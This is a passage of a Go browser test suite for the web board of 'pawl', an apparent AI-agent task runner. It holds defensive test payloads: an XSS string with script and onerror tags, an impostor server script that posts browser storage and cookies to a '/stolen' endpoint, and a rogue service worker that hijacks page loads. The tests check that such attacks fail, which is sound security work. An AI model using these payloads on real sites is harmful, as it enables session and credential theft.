package api_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"pawl/api"
	"pawl/forms"
	"pawl/run"
	"pawl/task"
	"pawl/web"
)

// A browser is a page of a real browser, used as a person does: by what can be seen.
type browser struct {
	t   testing.TB
	ctx context.Context
}

// browse opens a page that is logged in to the board. width is that of the window.
func (s *served) browse(width int64) browser {
	s.t.Helper()
	b := s.browser(width)
	b.do(chromedp.Navigate(s.do("POST", "/login-links", "").is(201).text("url")))
	return b
}

// browser starts a browser with an empty page.
func (s *served) browser(width int64) browser {
	s.t.Helper()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		s.t.Skip("needs chromium")
	}
	home := s.t.TempDir()
	all, stop := chromedp.NewExecAllocator(s.t.Context(), append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chromium), chromedp.NoSandbox,
		chromedp.Env("HOME="+home), chromedp.UserDataDir(filepath.Join(home, "profile")), chromedp.Flag("disable-dev-shm-usage", true), chromedp.WSURLReadTimeout(patience))...)
	s.t.Cleanup(stop)
	ctx, stop := chromedp.NewContext(all)
	s.t.Cleanup(stop)
	b := browser{s.t, ctx}
	var size []chromedp.EmulateViewportOption
	if width < 600 {
		size = append(size, chromedp.EmulateMobile)
	}
	b.do(chromedp.EmulateViewport(width, 800, size...))
	return b
}

func (b browser) do(actions ...chromedp.Action[chromedp.Void]) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, actions...); err != nil {
		b.t.Fatal(err)
	}
}

// until waits until an expression is true in the page.
func (b browser) until(expression string) {
	b.t.Helper()
	ctx, stop := context.WithTimeout(b.ctx, patience)
	defer stop()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](expression, chromedp.WithPollingTimeout(0))); err != nil {
		text, _ := chromedp.Run(b.ctx, chromedp.Evaluate[string]("document.body.innerText"))
		b.t.Fatalf("waiting for %s: %v; the page shows\n%s", expression, err, text)
	}
}

// seen is a JavaScript expression of the elements in sight that begin with a text: with a dialog above the page, those of
// the dialog.
func seen(selector, text string) string {
	return fmt.Sprintf(`[...document.querySelectorAll(%q)].filter((e) => e.textContent.trim().startsWith(%q) && e.checkVisibility() && !e.closest("fieldset:disabled") && (!document.querySelector(":modal") || e.closest(":modal")))`, selector, text)
}

// sees waits until a text is in sight.
func (b browser) sees(text string) {
	b.t.Helper()
	b.until(fmt.Sprintf("document.body.innerText.includes(%q)", text))
}

// click clicks what begins with a text and can be clicked, when it is there and enabled.
func (b browser) click(text string) {
	b.t.Helper()
	found := seen("button:enabled, a, summary, label", text)
	b.until(found + ".length > 0")
	b.do(chromedp.Evaluate[chromedp.Void](found + "[0].click()"))
}

// write writes into the field with a name.
func (b browser) write(name, text string) {
	b.t.Helper()
	field := fmt.Sprintf(`[...document.querySelectorAll("input, textarea")].find((e) => [e.ariaLabel, e.placeholder, e.labels?.[0]?.innerText].some((n) => (n || "").includes(%q)) && e.checkVisibility() && !e.closest("fieldset:disabled"))`, name)
	b.until("Boolean(" + field + ")")
	b.do(chromedp.Evaluate[chromedp.Void](field+".focus()"), chromedp.KeyEvent(text))
}

// press presses a key where the focus is. A key that opens a field is not typed into it, which DevTools would do.
func (b browser) press(key string) {
	b.t.Helper()
	b.do(chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`(document.activeElement || document.body).dispatchEvent(new KeyboardEvent("keydown", { key: %q, bubbles: true, cancelable: true }))`, key)))
}

// value returns what an expression is in the page.
func (b browser) value(expression string) any {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, chromedp.Evaluate[any](expression))
	must(b.t, err)
	return v
}

const boardReplies = `
{"when":{"first":"Plan this task","contains":"1. Which list?\nThe short one."},"calls":[{"tool":"planner-output","args":{"type":"plan","summary":"Write the list.","requirements":[],"acceptanceCriteria":["it is there"],"plan":["write it"]}}]}
{"when":{"first":"Plan this task"},"calls":[{"tool":"planner-output","args":{"type":"questions","questions":["Which list?"]}}]}
{"when":{"first":"Carry out this task","contains":"Your branch has conflicts with main in: b.txt"},"calls":[{"tool":"completion-report","args":{"status":"complete","summary":"Both sides are kept.","output":""}}]}
{"when":{"first":"Carry out this task","contains":"\"text\":\"And three?\""},"calls":[{"tool":"write","args":{"path":"b.txt","content":"one\nTWO\nthree\n"}},{"tool":"completion-report","args":{"status":"complete","summary":"Three lines now.","output":"","comments":[{"id":"c1","became":"changed","answer":"It has three."},{"id":"c2","became":"answered","answer":"Because it is a list."}]}}]}
{"when":{"first":"Carry out this task","contains":"ran it"},"calls":[{"tool":"completion-report","args":{"status":"complete","summary":"The list is **written**.","output":""}}]}
{"when":{"first":"Carry out this task"},"text":"I write <b>it</b>.","calls":[{"tool":"write","args":{"path":"b.txt","content":"one\nTWO\n"}},{"tool":"shell","args":{"command":"touch made; echo ran it","sandbox":"write"}}]}
`

// A person who has read nothing lets a task be planned, answers, starts it, permits a command, reviews the changes with a
// comment, has them corrected, and merges them: at a desk with the keyboard and at the width of a phone.
func TestATaskIsCarriedOutInTheBrowserAlone(t *testing.T) {
	for name, width := range map[string]int64{"at a desk": 1400, "on a phone": 360} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(t, boardReplies)
			s.repository()
			s.env["PAWL_MODE"] = "accept-edits"
			s.start()
			s.drive()
			b := s.browse(width)
			b.sees("No task yet")
			b.press("n")
			b.write("what has to be done", "Write the list\nIt has too few lines.")
			b.click("in a copy of the repository")
			b.click("Add")

			b.sees("Which list?")
			if n := b.value(seen("a", "Changes") + ".length"); n != 0. { // a planner changes nothing
				t.Errorf("changes are offered %v times", n)
			}
			b.click("pawl")
			b.sees("1 thing needs you")
			b.click("Answer")
			b.write("answer to: Which list?", "The short one.")
			b.click("Send")
			b.sees("Ready 1")
			b.click("Write the list")
			b.sees("Write the list.")
			b.click("Start")

			b.sees("asks for permission")
			b.sees("I write <b>it</b>.")
			b.sees("touch made; echo ran it")
			if width > 600 { // by the keyboard: the dialog has the focus, and has stood long enough
				b.until(seen(".dialog button", "Allow once") + ".length === 1")
				b.press("d")
				for _, words := range []string{"ynamic", "eny", "y"} { // no letter that follows another one is an answer
					for _, key := range words {
						b.press(string(key))
					}
					b.until(`document.activeElement.matches(".dialog")`)
				}
				b.until("(window.since ??= performance.now(), performance.now() - window.since > 1300)")
				b.press("y")
				b.until(`document.activeElement.textContent === "Allow once"`)
				b.do(chromedp.KeyEvent(kb.Enter))
			} else {
				b.click("Allow once")
			}
			b.sees("Report: complete")
			b.sees("The list is written.")

			meets := "No conflicts with main."
			if width > 600 { // the person has written the same file meanwhile
				must(t, os.WriteFile(filepath.Join(s.dir, "b.txt"), []byte("mine\n"), 0o600))
				s.git("add", "b.txt")
				s.git("commit", "--quiet", "-m", "mine")
				meets = "Conflicts with main: b.txt"
			}
			b.open("#/")
			b.sees(" in 2 files · finished")
			b.until(`/^copy \+\d+ −\d+$/.test(document.querySelector(".card.completed [title*=branch]").textContent)`)
			b.click("Review")
			b.sees(meets)
			b.sees("b.txt")
			b.until(seen("button", "2") + ".length > 0")
			b.do(chromedp.Evaluate[chromedp.Void](`document.querySelector('tr[data-new="2"] button').click()`))
			b.write("comment on line 2", "And three?")
			b.click("Keep")
			b.click("Comment")
			b.write("comment on b.txt", "Why a list?")
			b.click("Keep")
			b.sees("2 comments")
			b.do(chromedp.Evaluate[chromedp.Void](`document.querySelector(".file .seen input").click()`))
			letGo := b.late("/reviews") // the agent is quicker than the answer
			b.click("Send to the agent")
			b.sees("● changed It has three.")
			b.sees("◐ answered Because it is a list.")
			letGo()
			b.sees("changed since you looked")
			b.until(`document.querySelectorAll(".added").length === 1`) // since the review
			b.do(chromedp.Evaluate[chromedp.Void](`const from = document.querySelector(".how select"); from.value = ""; from.dispatchEvent(new Event("change"))`))
			b.until(`document.querySelectorAll(".added").length === 3 && document.querySelector('tr[data-new="2"] + .comments')?.innerText.includes("It has three.")`)
			b.click("Merge")
			b.sees("The branch is in your repository")
			b.sees("Your files and your branch are as they were.")
			b.until(seen("dialog pre", "git merge pawl/") + ".length === 1")
			if width > 600 {
				b.click("Let the agent solve them")
				b.sees("Both sides are kept.")
			} else {
				b.click("Close")
				b.open("#/")
				b.until(seen(".card.completed .label", "merged") + ".length === 1")
				b.open("#/tasks/t-none")
				b.sees("There is no such task")
				b.click("Back to the board")
				b.sees("Done 1")
			}
			id := s.do("GET", "/tasks", "").is(200).text("items.0.id")
			if got := s.git("show", "pawl/"+id+":b.txt"); got != "one\nTWO\nthree" {
				t.Errorf("the branch has %q", got)
			}
		})
	}
}

// What a model, a tool and a person write is shown as text: nothing of it becomes markup, loads anything, or is obeyed.
func TestNothingThatIsShownBecomesMarkup(t *testing.T) {
	t.Parallel()
	const evil = `<img src=x onerror=document.title=1><script>document.title=2</script>[a](javascript:document.title=3) [b](https://example.com/)`
	quoted, err := json.Marshal(evil)
	must(t, err)
	s := serve(t, `{"when":{"first":"Plan this task"},"calls":[{"tool":"planner-output","args":{"type":"questions","questions":[`+string(quoted)+`]}}]}`)
	s.drive()
	id := s.add(evil)
	s.do("POST", "/tasks/"+id+"/plan", "").is(200)
	s.wait(id, "awaiting_input")
	b := s.browse(1400)
	b.click("Answer")
	b.until(seen(".question", "<img") + ".length === 1")
	b.click("<img")
	b.until(seen(".prose", "<img") + ".length > 0")
	if n := b.value(`document.querySelectorAll("main img, main script, a[href^='javascript' i]").length`); n != 0. {
		t.Errorf("%v elements were made of words", n)
	}
	if n := b.value(`document.querySelectorAll("a[href='https://example.com/'][rel~=noopener]").length`); n == 0. {
		t.Error("the address is not a link")
	}
	if title := b.value("document.title"); !strings.HasPrefix(title.(string), "<img") {
		t.Errorf("the title is %q", title)
	}
}

// asked returns a task whose planner asks, and two browsers in which the question stands.
func (s *served) asked() (id string, one, two browser) {
	s.t.Helper()
	id = s.add("Write the list")
	s.do("POST", "/tasks/"+id+"/plan", "").is(200)
	s.wait(id, "awaiting_input")
	one, two = s.browse(1400), s.browse(360)
	for _, b := range []browser{one, two} {
		b.click("Answer")
		b.until(seen(".question", "Which list?") + ".length === 1")
	}
	return id, one, two
}

// Of two browsers that answer the same, the first counts; the other sees by whom it was answered and how, and its
// dialog goes.
func TestOfTwoBrowsersThatAnswerTheFirstCounts(t *testing.T) {
	t.Parallel()
	s := serve(t, boardReplies)
	s.drive()
	id, one, two := s.asked()
	two.write("answer to: Which list?", "The long one.")
	one.write("answer to: Which list?", "The short one.")
	one.click("Send")
	two.sees("answered elsewhere by")
	two.sees("The short one.")
	two.until(`document.querySelector(".dialog") === null`)
	one.sees("Answered.")
	if text := one.value("document.body.innerText").(string); strings.Contains(text, "elsewhere") {
		t.Errorf("who answers is told so: %s", text)
	}
	s.wait(id, "planned")
	s.do("POST", "/tasks/"+id+"/start", "").is(200)
	for _, b := range []browser{one, two} {
		b.click("Look")
		b.until(seen(".dialog button", "Allow once") + ".length === 1")
	}
	two.click("No")
	one.sees("answered elsewhere by")
	one.until(`document.querySelector(".dialog") === null`)
}

// A task that no process drives is not said to be at work.
func TestACardSaysThatNoProcessDrivesItsTask(t *testing.T) {
	t.Parallel()
	s := serve(t, boardReplies)
	id := s.add("Write the list")
	s.do("POST", "/tasks/"+id+"/plan", "").is(200)
	b := s.browse(360)
	b.sees("no process drives it")
	if text := b.value(`document.querySelector(".card .does").textContent + document.getElementById("working").textContent`).(string); strings.Contains(text, "work") {
		t.Errorf("the page says %q", text)
	}
	s.drive()
	b.sees("Which list?")
	b.until(`!document.body.innerText.includes("no process drives it")`)
}

// The palette reaches every page, task and action by typing; the pages beside the board say what they are asked for.
func TestThePaletteAndThePagesBesideTheBoard(t *testing.T) {
	t.Parallel()
	s := serve(t, boardReplies)
	s.drive()
	s.add("Write the list")
	id := s.add("Another one")
	b := s.browse(1000)
	b.sees("Another one")
	find := func(words string) {
		b.do(chromedp.Evaluate[chromedp.Void](`document.body.dispatchEvent(new KeyboardEvent("keydown", { key: "k", ctrlKey: true, bubbles: true, cancelable: true }))`))
		b.write("go to, or do", words)
	}
	find("another")
	b.until(`document.querySelector(".palette [aria-selected=true]")?.textContent.startsWith("Another one")`)
	b.do(chromedp.KeyEvent(kb.Enter))
	b.until(`location.hash === "#/tasks/` + id + `"`)
	letGo := b.late("/status") // what can be done with the task is known after the pages
	find("")
	const chosen = `document.querySelector(".palette [aria-selected=true]")?.textContent`
	b.until(chosen + ` === "Board"`)
	letGo()
	b.until(seen(".palette li", "Plan") + ".length === 1 && " + chosen + ` === "Board"`)
	b.do(chromedp.KeyEvent(kb.Escape))
	b.until(`document.querySelector(".palette") === null`)
	find("plan this")
	b.until(`document.querySelector(".palette [aria-selected=true]")?.textContent.startsWith("Plan")`)
	b.do(chromedp.KeyEvent(kb.Enter))
	s.wait(id, "awaiting_input")

	b.do(chromedp.Navigate("about:blank"), chromedp.Navigate(s.do("POST", "/login-links", "").is(201).text("url")+"&to=tasks/"+id))
	b.until(`location.hash === "#/tasks/` + id + `" && document.title.startsWith("Another one")`)
	find("doctor")
	b.do(chromedp.KeyEvent(kb.Enter))
	b.sees("A run could begin")
	find("usage")
	b.do(chromedp.KeyEvent(kb.Enter))
	b.until(`document.querySelector("svg[aria-label^=turns] rect") !== null`)
	find("runs")
	b.do(chromedp.KeyEvent(kb.Enter))
	b.click("of all folders")
	b.sees(s.ws.Dir)

	find("settings")
	b.do(chromedp.KeyEvent(kb.Enter))
	b.until(`[...document.querySelectorAll("tr")].some((r) => /^model\s+script\/\S+\s+environment PAWL_MODEL$/.test(r.innerText.trim()))`)

	find("agents")
	b.do(chromedp.KeyEvent(kb.Enter))
	b.write("name of a new agent", "tester")
	b.click("New agent")
	b.sees("There is no such agent yet.")
	b.click("Write the agent")
	b.sees("an agent needs some")
	b.write("Instructions", "Look for what breaks.")
	b.write("Tools", "\nreed")
	b.click("Write the agent")
	b.sees("there is no tool")
	b.do(chromedp.Evaluate[chromedp.Void](`const tools = document.querySelectorAll("textarea")[0]; tools.value = "read"`))
	b.click("Write the agent")
	b.sees("tester.md")
	if a := s.do("GET", "/agents/tester", "").is(200); a.at("valid") != true || a.text("tools.0") != "read" || a.text("instructions") != "Look for what breaks." {
		t.Errorf("the agent is %+v", a.v)
	}
}

// All that the board loads is at most 150 KB, and less than half of that as it goes over the network.
func TestThePagesAreLight(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	var all, sent int
	must(t, fs.WalkDir(web.Files, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(name, "docs.") || slices.Contains([]string{"page.css", "pages.js", "push.js", "worker.js"}, name) { // which are of other pages
			return err
		}
		content, err := fs.ReadFile(web.Files, name)
		must(t, err)
		all += len(content)
		req, err := http.NewRequestWithContext(t.Context(), "GET", s.url+"/"+strings.TrimSuffix(name, "index.html"), nil)
		must(t, err)
		req.Header.Set("Accept-Encoding", "gzip") // so that the client leaves it as it comes
		res, err := http.DefaultClient.Do(req)
		must(t, err)
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		must(t, err)
		sent += len(body)
		z, err := gzip.NewReader(bytes.NewReader(body))
		must(t, err)
		if plain, err := io.ReadAll(z); err != nil || !bytes.Equal(plain, content) || res.Header.Get("Content-Encoding") != "gzip" {
			t.Errorf("%s came as %v with %d bytes, %v", name, res.Header, len(plain), err)
		}
		return nil
	}))
	if all > 150_000 || sent > 60_000 {
		t.Errorf("the board is %d bytes, sent as %d", all, sent)
	}
}

// leftAlone returns a page of the board, with one task, whose server has ended.
func leftAlone(t *testing.T) (*served, browser) {
	t.Helper()
	s := serve(t, "")
	s.add("first")
	b := s.browse(1400)
	b.sees("first")
	s.stop()
	b.sees("The server does not answer")
	return s, b
}

// The page of a task and that of a run have the command that opens the conversation of an external agent in its program, while
// the agent does not work in it.
func TestAConversationIsTakenOverFromTheBoard(t *testing.T) {
	t.Parallel()
	s := serve(t, planReply)
	stop := s.drive()
	id := s.add("Count the files.")
	s.do("POST", "/tasks/"+id+"/plan", "").is(200)
	s.wait(id, "planned")
	stop()
	r := s.do("POST", "/tasks/"+id+"/start", "").is(200).text("runs.1.run")
	finish := s.worksOutside(run.ID(r))
	b := s.browse(1400)
	b.do(chromedp.Evaluate[chromedp.Void](`location.hash = "#/tasks/` + id + `"`))
	b.sees("Carry it out.")
	const words = "Take the conversation over"
	if n := b.value(seen("summary", words) + ".length"); n != 0. {
		t.Error("it is offered while the agent works")
	}
	finish()
	for _, page := range []string{"tasks/" + id, "runs/" + r} {
		b.do(chromedp.Evaluate[chromedp.Void](`location.hash = "#/` + page + `"; navigator.clipboard.writeText = (text) => { window.copied = text }`))
		b.click(words)
		b.click("Copy")
		b.until("Boolean(window.copied)")
		if got, want := b.value("copied"), "cd '"+s.dir+"' && claude --resume 'conv-1'"; got != want {
			t.Errorf("%s has the command %q, want %q", page, got, want)
		}
		b.do(chromedp.Evaluate[chromedp.Void]("window.copied = ''"))
	}
}

// A page that stands open outlives the server: it says that it is away, and what is done meanwhile is sent once, when the
// server is back.
func TestAPageOutlivesItsServer(t *testing.T) {
	t.Parallel()
	s, b := leftAlone(t)
	b.press("n")
	b.write("what has to be done", "second")
	b.do(chromedp.Evaluate[chromedp.Void](`document.querySelector("dialog select").value = ""`))
	for range 3 { // nothing seems to happen
		b.click("Add")
	}
	s.start()
	b.sees("second")
	b.until(`document.getElementById("away").hidden`)
	b.do(chromedp.Reload()) // what the browser keeps is of the server that runs now
	b.sees("second")
	if n := len(s.do("GET", "/tasks", "").is(200).items("items")); n != 2 {
		t.Errorf("there are %d tasks", n)
	}
}

// tab opens one more page of the same browser.
func (b browser) tab(address string) (page browser, shut func()) {
	b.t.Helper()
	ctx, shut := chromedp.NewContext(b.ctx)
	b.t.Cleanup(shut)
	page = browser{b.t, ctx}
	page.do(chromedp.Navigate(address))
	return page, shut
}

// A page that was opened before the browser was logged in shows the board once another page is.
func TestALoginIsOfAllPagesOfABrowser(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	b := s.browser(1000)
	b.do(chromedp.Navigate(s.url))
	b.sees("To log this browser in")
	other, _ := b.tab(s.do("POST", "/login-links", "").is(201).text("url"))
	other.sees("Backlog")
	b.sees("Backlog")
}

// A browser has six connections to a server for all its pages. More pages than that are current all the same, also when
// the one that reads the stream for the others is closed, or the server is started again.
func TestManyPagesOfOneBrowserAreCurrent(t *testing.T) {
	t.Parallel()
	s := asks(t, "touch made")
	var ids []string
	for i := range 4 {
		ids = append(ids, s.asking(fmt.Sprintf("task %d", i)))
	}
	pages := []browser{s.browse(1400)}
	var shut []func()
	for i := range 8 {
		page := "/"
		if i < len(ids) {
			page += "#/tasks/" + ids[i]
		}
		p, stop := pages[0].tab(s.url + page)
		pages, shut = append(pages, p), append(shut, stop)
		p.sees(fmt.Sprintf("task %d", i%len(ids)))
	}
	shows := func(label string) {
		t.Helper()
		s.do("PATCH", "/tasks/"+ids[0], fmt.Sprintf(`{"labels":[%q]}`, label)).is(200)
		for _, p := range append(pages[:1:1], pages[5:]...) {
			p.sees(label)
		}
	}
	shows("once")
	shut[len(shut)-1]() // it came into sight last
	pages = pages[:len(pages)-1]
	shows("twice")
	for i, id := range ids {
		call := s.do("GET", "/tasks/"+id+"/approvals", "").is(200)
		s.do("POST", "/tasks/"+id+"/runs/"+call.text("items.0.run")+"/calls/"+call.text("items.0.call")+"/decision", fmt.Sprintf(`{"answer":"allow","digest":%q}`, call.text("items.0.digest"))).is(200)
		pages[1+i].sees("Report: complete")
		pages[1+i].until(`document.querySelector(".items .end") !== null`)
	}
	s.stop()
	for _, p := range pages {
		p.sees("The server does not answer")
	}
	s.start()
	shows("again")
}

// A program that takes the place of a server which has ended gets nothing of the sessions of its pages.
func TestAProgramInThePlaceOfTheServerGetsNoSession(t *testing.T) {
	t.Parallel()
	s, b := leftAlone(t)
	l, err := net.Listen("tcp", s.address)
	must(t, err)
	var mu sync.Mutex
	var sent []string
	other := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		sent = append(sent, fmt.Sprint(r.Method, r.URL, r.Header))
		_, _ = io.WriteString(w, `{"proof":"00"}`)
	})}}
	other.Start()
	defer other.Close()
	b.sees("the session is over")
	mu.Lock()
	defer mu.Unlock()
	if all := strings.Join(sent, "\n"); !strings.Contains(all, "/sessions/proof") || strings.Contains(all, "Authorization") {
		t.Errorf("the other program was sent %s", all)
	}
}

// A page of a program that takes the place of a server which has ended is one of the same origin: what the browser keeps
// for it counts for no server any more.
func TestWhatABrowserKeepsEndsWithTheServer(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	s.add("first")
	b := s.browse(1400)
	b.sees("first")
	b.do(chromedp.Navigate("about:blank"))
	s.stop()
	l, err := net.Listen("tcp", s.address)
	must(t, err)
	stolen := make(chan string, 1)
	other := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/stolen" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, `<script>fetch("/stolen", {method: "POST", body: Object.values({...localStorage, ...sessionStorage}).join("\n") + "\n" + document.cookie})</script>`)
			return
		}
		all, _ := io.ReadAll(r.Body)
		stolen <- string(all)
	})}}
	other.Start()
	b.do(chromedp.Navigate(s.url))
	var secrets []string
	select {
	case all := <-stolen:
		secrets = strings.Fields(all)
	case <-time.After(patience):
		t.Fatal("the page of the other program was not opened")
	}
	other.Close()
	s.start()
	if len(secrets) == 0 {
		t.Error("the browser keeps nothing: this shows nothing")
	}
	for _, secret := range secrets {
		s.do("GET", "/tasks", "", with("Authorization", "Bearer "+secret)).problem(401, "UNAUTHORIZED")
		s.do("POST", "/sessions", `{"code":`+strconv.Quote(secret)+`}`, without("Authorization")).problem(401, "LINK_EXPIRED")
	}
	b.do(chromedp.Navigate(s.url))
	b.sees("pawl serve link")
}

// The board of a server whose tasks workers carry has a page of them: what each holds, and what waits in vain.
func TestTheBoardShowsTheWorkers(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	id := s.add("Count the files")
	plain := s.browse(1400)
	plain.sees("Count the files")
	if plain.value(seen("a", "Workers")+".length") != 0. {
		t.Error("the board of a server without workers has a page of them")
	}
	s.stop()
	var away atomic.Bool
	s.startWith(api.Options{Rate: 1 << 20, Workers: func(context.Context) (forms.FleetForm, error) {
		if away.Load() {
			return forms.FleetForm{}, errors.New("Temporal does not answer")
		}
		return forms.FleetForm{Unattended: []string{"big"}, Workers: []forms.WorkerForm{{Name: "process 4112 on node-3", Queue: "pawl", Seen: time.Now().Add(-90 * time.Minute), Holds: 1}},
			Tasks: []forms.HeldForm{{ID: task.ID(id), Title: "Count the files", Status: task.Active, Queue: "pawl", By: "process 4112 on node-3"}, {ID: "t-2", Title: "Sort them", Status: task.Pending, Queue: "big"}}}, nil
	}})
	b := s.browse(1400)
	b.click("Workers")
	b.sees("No process gives new tasks to workers.")
	b.sees("No worker takes tasks of the queue big.")
	b.until(seen("tr", "process 4112 on node-3pawl11h") + `.length === 1`)
	b.until(seen("tr", "Sort them") + `[0]?.innerText.includes("no worker: it waits for one, or for a person")`)
	b.click("Count the files")
	b.until("location.hash === " + strconv.Quote("#/tasks/"+id))
	away.Store(true)
	b.do(chromedp.Evaluate[chromedp.Void](`location.hash = "#/workers"`))
	b.sees("what the workers do is not known: Temporal does not answer")
}

// Such a program can also leave a service worker, which answers for every server that has the address later. The
// browser asks the server whether that has changed, and is given one that removes itself.
func TestAServiceWorkerThatAnotherProgramLeftIsRemoved(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	b := s.browse(1400)
	b.do(chromedp.Navigate("about:blank"))
	s.stop()
	l := s.listen()
	came := make(chan struct{})
	other := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/came" {
			close(came)
		}
		if r.URL.Path == "/api/worker.js" {
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			_, _ = io.WriteString(w, `self.addEventListener("install", () => self.skipWaiting());
				self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim().then(() => fetch("/came"))));
				self.addEventListener("fetch", (e) => e.respondWith(new Response("<p>a page of the worker</p>", {headers: {"Content-Type": "text/html"}})))`)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<script>navigator.serviceWorker.register("/api/worker.js", {scope: "/"})</script>`)
	})}}
	other.Start()
	b.do(chromedp.Navigate(s.url))
	select {
	case <-came:
	case <-time.After(patience):
		t.Fatal("the worker was not taken")
	}
	b.do(chromedp.Navigate(s.url + "/tasks"))
	b.sees("a page of the worker")
	b.do(chromedp.Navigate("about:blank"))
	other.Close()
	s.start()
	// The browser asks for the worker a second after the last page. It may load the page again before this has come.
	_, _ = chromedp.Run(b.ctx, chromedp.Navigate(s.url))
	ctx, stop := context.WithTimeout(b.ctx, patience)
	defer stop()
	for {
		_, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.body.innerText.includes("pawl serve link")`, chromedp.WithPollingTimeout(0)))
		if err == nil {
			break
		}
		if ctx.Err() != nil {
			t.Fatalf("the worker is still there: %v", err)
		} // else the page was loaded again meanwhile
	}
}

// modules returns the folder with the packages of npm that tsc is from.
func modules(t *testing.T) string {
	t.Helper()
	tsc, err := exec.LookPath("tsc")
	if err != nil {
		t.Skip("needs typescript and axe-core from npm, with node_modules/.bin in PATH")
	}
	return filepath.Dir(filepath.Dir(tsc))
}

// The types in the comments of the modules are right, and the forms that they use are there.
func TestRealTypeScriptChecksThePages(t *testing.T) {
	t.Parallel()
	modules(t)
	cmd := exec.CommandContext(t.Context(), "tsc", "--allowJs", "--checkJs", "--noEmit", "--strict", "--target", "es2024", "--module", "es2022",
		"--lib", "es2024,dom,dom.iterable,dom.asynciterable", "app.js", "worker.js", "types.d.ts")
	cmd.Dir = filepath.Join("..", "web")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
}

// axe finds nothing serious on any page, in both themes and at the width of a phone.
func TestRealAxeFindsNothingSerious(t *testing.T) {
	t.Parallel()
	axe, err := os.ReadFile(filepath.Join(modules(t), "axe-core", "axe.min.js"))
	must(t, err)
	s := serve(t, boardReplies)
	s.repository()
	s.env["PAWL_MODE"] = "accept-edits"
	s.start()
	s.drive()
	id := s.do("POST", "/tasks", `{"description":"Write the list","isolation":"clone","labels":["bug"]}`).is(201).text("id")
	s.do("POST", "/tasks/"+id+"/plan", "").is(200)
	s.wait(id, "awaiting_input")
	asked := s.add("Write another list")
	s.do("POST", "/tasks/"+asked+"/plan", "").is(200)
	s.do("POST", "/tasks/"+id+"/answers", `{"answers":["The short one."]}`).is(200)
	s.wait(id, "planned")
	s.do("POST", "/tasks/"+id+"/start", "").is(200)
	s.until(id, "waiting for approval", func(v value) bool { return len(v.items("permissions")) == 1 })
	run := s.do("GET", "/tasks/"+id, "").is(200).text("status.run")
	for _, width := range []int64{1400, 360} {
		b := s.browse(width)
		b.do(chromedp.Evaluate[chromedp.Void](string(axe)))
		for _, theme := range []string{"light", "dark"} {
			b.do(emulate(theme))
			for address, words := range map[string]string{"#/": "things need you", "#/tasks/" + id: "asks for permission", "#/tasks/" + id + "/review": "b.txt", "#/runs": run, "#/runs/" + run: "asks for permission",
				"#/runs/" + run + "/outputs": "Outputs", "#/agents": "task-validator", "#/models": "Models", "#/rules": "What would happen to", "#/trust": "Everything that the folder brings", "#/usage": "How turns ended", "#/settings": "The API", "#/agents/developer": "Instructions", "#/doctor": "A run could begin"} {
				b.do(chromedp.Evaluate[chromedp.Void](fmt.Sprintf("location.hash = %q", address)))
				b.sees(words)
				found, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string]("axe.run().then((r) => r.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => v.id + ': ' + v.nodes[0].html))", chromedp.EvalAwaitPromise))
				must(t, err)
				for _, f := range found {
					t.Errorf("%s, %s, at %d: %s", address, theme, width, f)
				}
				// 360 is also what a window of 720 has at a zoom of 200 %.
				if b.value("document.documentElement.scrollWidth > innerWidth || document.getAnimations().length > 0") != false {
					t.Errorf("%s at %d is wider than the page, or moves", address, width)
				}
			}
		}
	}
}

// Over a slow network, as of a train, the board is there within seconds, and current.
func TestTheBoardIsUsableOverASlowNetwork(t *testing.T) {
	t.Parallel()
	s := serve(t, "")
	id := s.add("First")
	b := s.browse(360)
	b.sees("First")
	b.do(func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
		_, err := cdp.Call(ctx, target, network.SetCacheDisabled, network.SetCacheDisabledParams{CacheDisabled: true})
		if err == nil {
			_, err = cdp.Call(ctx, target, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{
				MatchedNetworkConditions: []*network.Conditions{{Latency: 200, DownloadThroughput: 50_000, UploadThroughput: 20_000}}})
		}
		return chromedp.Void{}, err
	})
	b.do(chromedp.Navigate(s.do("POST", "/login-links", "").is(201).text("url")), chromedp.Reload())
	b.sees("First")
	took, _ := b.value(`performance.now()`).(float64)
	t.Logf("its cards came within %.0f ms", took)
	if took > 15_000 {
		t.Errorf("its cards came after %.0f ms", took)
	}
